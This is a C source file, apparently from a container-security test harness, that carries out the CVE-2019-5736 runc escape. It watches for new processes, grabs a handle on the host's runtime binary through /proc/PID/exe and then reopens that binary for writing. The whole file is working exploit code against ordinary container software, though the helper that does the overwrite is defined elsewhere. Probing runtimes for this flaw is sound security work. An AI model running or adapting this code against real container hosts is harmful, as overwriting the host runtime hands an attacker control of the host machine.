/* SPDX-License-Identifier: GPL-2.0-or-later */
/* CVE-2019-5736 through a runtime process that shows up in our pid
 * namespace (`exec` joining us, or a container init that joins our pid
 * namespace, before its execve).  Needs to pass the ptrace check on a
 * non-dumpable process: CAP_SYS_PTRACE of the initial user namespace.
 *
 * Usage: exe_grab SECONDS
 * Opens /proc/PID/exe of every new pid at once, with O_PATH (again and
 * again while the kernel refuses and the pid lives); a handle on a file the
 * container does not have (the host's runtime binary) is kept and, once no
 * process executes that file any more, reopened for writing through
 * /proc/self/fd/N. */
#include "common.h"

struct grab
{
  int fd;
  long seen, denied, inside;
  struct retry_list retry;
};

/* true when done with PID. */
static bool
grab_exe (pid_t pid, void *data)
{
  struct grab *g = data;
  char path[64], link[PATH_MAX];
  int fd;

  if (g->fd >= 0)
    return true;
  snprintf (path, sizeof path, "/proc/%d/exe", (int) pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return errno != EACCES && errno != EPERM;
  if (!foreign_file (fd))
    {
      g->inside++;
      close (fd);
      return true;
    }
  report ("exe_grab: OPENED %s with O_PATH: %s, a file outside the container", path,
          fd_link (fd, link, sizeof link));
  g->fd = fd;
  return true;
}

static void
try_pid (pid_t pid, void *data)
{
  struct grab *g = data;

  if (g->fd >= 0)
    return;
  g->seen++;
  if (grab_exe (pid, g))
    return;
  if (g->denied++ < 3)
    report ("exe_grab: open /proc/%d/exe: %s (trying again while it lives)", (int) pid, strerror (errno));
  retry_add (&g->retry, pid);
}

int
main (int argc, char **argv)
{
  double deadline = now_s () + (argc > 1 ? atof (argv[1]) : 20);
  struct grab g = { .fd = -1 };
  struct pid_watch w;

  if (pid_watch_init (&w) < 0)
    {
      report ("exe_grab: cannot watch /proc: %s", strerror (errno));
      return 1;
    }
  report ("exe_grab: ready (pid %d)", (int) getpid ());
  for (long i = 0; g.fd < 0 && now_s () < deadline; i++)
    {
      pid_watch_scan (&w, try_pid, &g);
      retry_scan (&g.retry, grab_exe, &g);
      if (i % 256 == 0 && stop_requested ())
        break;
    }
  if (g.fd >= 0)
    write_through_handle (g.fd, deadline, "exe_grab");
  report ("exe_grab: done: %ld new pids, %ld exe opens denied, %ld inside the container", g.seen,
          g.denied, g.inside);
  return 0;
}
